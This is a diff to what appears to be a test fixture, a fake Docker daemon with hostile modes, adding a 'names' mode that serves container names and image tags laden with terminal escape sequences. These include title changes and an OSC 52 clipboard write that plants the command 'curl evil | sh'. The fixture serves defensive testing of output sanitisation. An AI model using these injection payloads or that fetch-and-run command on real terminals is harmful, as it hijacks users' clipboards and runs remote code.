@@ -8,7 +8,9 @@
 // that is not JSON), many (100,000 containers), flood (10,000 events a second), collide (the
 // host daemon's ID), newid (a new ID on every call), frame (a DinD-looking container whose
 // exec streams, the tunnel to its daemon, and logs announce a 4 GiB frame and stream bytes
-// without end). Prints "listening" once it accepts.
+// without end), names (a container name and image tags that carry line breaks and escape
+// sequences: a real dockerd refuses such names, a daemon in a container need not; it also takes
+// a socket sandbox: create and start answer). Prints "listening" once it accepts.
 import {randomBytes} from 'node:crypto';
 import http from 'node:http';
 import {rmSync} from 'node:fs';
@@ -17,7 +19,11 @@ const [mode, socket, hostId = ''] = process.argv.slice(2);
 const hex = (n) => randomBytes(n / 2).toString('hex');
 const ownId = `HOSTILE:${hex(16).toUpperCase()}`;
 const idOf = (index) => index.toString(16).padStart(64, 'c');
-const names = (index) => [`/hostile-${index}`];
+/** What the names mode calls its container and its image: a fake row, a title, a clipboard write. */
+const hostileName = 'x\n● prod-db\t\u001B]0;PWNED-NAME\u0007';
+const hostileTag = `evil\u001B]52;c;${Buffer.from('curl evil | sh').toString('base64')}\u0007\u001B]0;PWNED-TAG\u0007/dind:1`;
+const names = (index) => [mode === 'names' ? `/${hostileName}` : `/hostile-${index}`];
+const image = () => (mode === 'names' ? hostileTag : 'hostile');
 
 function json(res, value) {
 	const body = JSON.stringify(value);
@@ -71,13 +77,13 @@ function hugeFrame(stream) {
 	pump();
 }
 
-const summary = (index) => ({Id: idOf(index), Names: names(index), Image: 'hostile', Command: 'sleep', Created: 1, State: 'running', Status: 'Up'});
+const summary = (index) => ({Id: idOf(index), Names: names(index), Image: image(), Command: 'sleep', Created: 1, State: 'running', Status: 'Up'});
 const inspect = (id) => ({
 	Id: id,
-	Name: `/hostile-${id.slice(-4)}`,
+	Name: mode === 'names' ? `/${hostileName}` : `/hostile-${id.slice(-4)}`,
 	Path: 'sleep',
 	Args: [],
-	Config: {Image: 'hostile', Env: [], Labels: {}},
+	Config: {Image: image(), Env: [], Labels: {}},
 	HostConfig: {Runtime: 'runc'},
 	State: {Status: 'running', Pid: 0, StartedAt: new Date().toISOString()},
 	Mounts: [],
@@ -137,6 +143,8 @@ const server = http.createServer((req, res) => {
 	if (path === '/events') {
 		if (mode === 'flood') return flood(res);
 		res.writeHead(200, {'content-type': 'application/json'});
+		// As dockerd does: the stream's headers at once, then events as they come (none here).
+		if (mode === 'names') res.flushHeaders();
 		return;
 	}
 	if (path === '/containers/json') {
@@ -164,6 +172,17 @@ const server = http.createServer((req, res) => {
 	}
 	const inspected = /^\/containers\/([0-9a-f]{64})\/json$/.exec(path);
 	if (inspected) return json(res, inspect(inspected[1]));
+	if (mode === 'names') {
+		if (path === '/images/json') return json(res, [{Id: `sha256:${'e'.repeat(64)}`, RepoTags: [hostileTag], Size: 1}]);
+		if (req.method === 'POST' && path === '/containers/create') {
+			res.writeHead(201, {'content-type': 'application/json'});
+			return void res.end(JSON.stringify({Id: idOf(2), Warnings: []}));
+		}
+		if (req.method === 'POST' && /^\/containers\/[0-9a-f]{64}\/start$/.test(path)) {
+			res.writeHead(204);
+			return void res.end();
+		}
+	}
 	res.writeHead(404, {'content-type': 'application/json'});
 	res.end('{"message":"not in this script"}');
 });
